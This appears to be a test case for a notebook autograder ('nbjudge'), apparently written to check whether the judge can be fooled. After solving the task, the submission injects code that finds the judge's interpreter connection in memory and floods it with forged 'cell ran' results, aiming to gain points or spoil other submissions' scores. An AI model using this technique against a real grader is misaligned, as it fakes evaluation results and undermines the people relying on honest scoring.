"""The child answers requests that nobody sent, with the scores of all tests.

Success: points in a question that is judged outside. Or others lose theirs.
"""

ALONE = True
DESERVES = ["square", "standardize", "total", "words", "distance", "root", "primes"]


def attack(submission):
    submission.solve()
    submission.in_child("""
        import gc, socket, sys
        from nbjudge.wire import requests
        from nbjudge.wire.framing import send_message

        result = {"output_type": "execute_result", "execution_count": 1, "metadata": {},
                  "data": {"text/plain": "4.0"}}
        running = [one for one in gc.get_objects() if type(one).__name__ == "Interpreter"][0]
        for number in (running.number, 0, 1, running.number + 1):
            for _ in range(50):
                answer = requests.CellRan(True, [result], [], False)
                send_message(running.connection, answer, number=number)
    """)
